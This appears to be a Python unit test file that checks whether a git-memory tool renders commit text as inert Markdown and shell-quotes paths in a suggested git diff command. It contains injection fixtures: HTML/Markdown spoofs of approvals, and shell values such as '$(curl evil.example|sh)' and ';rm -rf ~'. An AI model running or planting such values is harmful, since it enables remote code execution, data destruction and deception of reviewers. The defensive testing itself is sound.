"""The drift PR comment and the drift page's `git diff` suggestion carry repository text inert (issue 35,
item 18): commit subjects, authors, titles and paths with Markdown, HTML, @-mentions, backticks, pipes and
line breaks render as code, and a pasted suggestion runs nothing. Rendered with a real CommonMark parser."""

from __future__ import annotations

import shlex

import pytest
from markdown_it import MarkdownIt

from jupiter_git_memory.recall.evidence import diff_command, markdown, md_code

pytestmark = pytest.mark.unit

HOSTILE = [
    "[safe to merge](https://evil.example/x)",
    "![ci passed](https://evil.example/badge.png)",
    "**safe to merge** cc @org/security-team",
    "<img src=x onerror=alert(1)> <b>approved</b>",
    "a `code` span `` and ``` more",
    "pipe | breaks | the | table",
    "line one\n## Approved by the maintainers\n- [x] reviewed",
    "`",
    "trailing backtick`",
    "\u2028## U+2028 header\u2029x\x1b[31mred",
]


def _report(text: str) -> dict:
    return {
        "base": "main",
        "counts": {"fresh": 0, "drifted": 1, "missing": 0},
        "records": [
            {
                "id": "dec-auth",
                "title": text,
                "state": "drifted",
                "cited": [f"src/{text}/"],
                "touched": [f"src/{text}/login.py"],
                "changed": [{"sha": "0123456789abcdef", "subject": text, "author": text}],
                "missing": [],
                "uncommitted": [],
            }
        ],
    }


def test_every_hostile_value_renders_as_code_only():
    md = MarkdownIt("commonmark").enable("table")
    for text in HOSTILE:
        out = markdown(_report(text))
        html = md.render(out)
        for tag in ("<a ", "<img", "<em", "<h2", "<h1", "<b>", "<li"):
            assert tag not in html, (text, tag, html)
        assert html.count("<strong>") == 1 and "<strong>dec-auth</strong>" in html, html  # only the record id
        assert html.count("<tr>") == 2 and html.count("<td>") == 4, (text, html)  # one row, four cells
        assert html.count("<code>") >= 5, (text, html)  # title, two paths... each value its own span
        assert out.count("\n") == len(markdown(_report("plain")).splitlines()), repr(out)  # no extra lines


def test_a_code_span_holds_any_backtick_run():
    md = MarkdownIt("commonmark")
    for text in ("`", "``x``", "a ``` b", "` lead", "trail `"):
        html = md.renderInline(md_code(text))
        assert html.startswith("<code>") and html.endswith("</code>") and html.count("<code>") == 1, (text, html)


def test_the_suggested_diff_command_quotes_every_path():
    paths = ["src/$(curl evil.example|sh)/", "a;rm -rf ~", "x`id`", "new\nline", "plain/ok.py"]
    cmd = diff_command("0123456789abcdef", "fedcba9876543210", paths)
    assert shlex.split(cmd) == ["git", "diff", "0123456789ab", "fedcba987654", "--", *paths]
    assert cmd.endswith(" plain/ok.py")  # a plain path stays as it reads
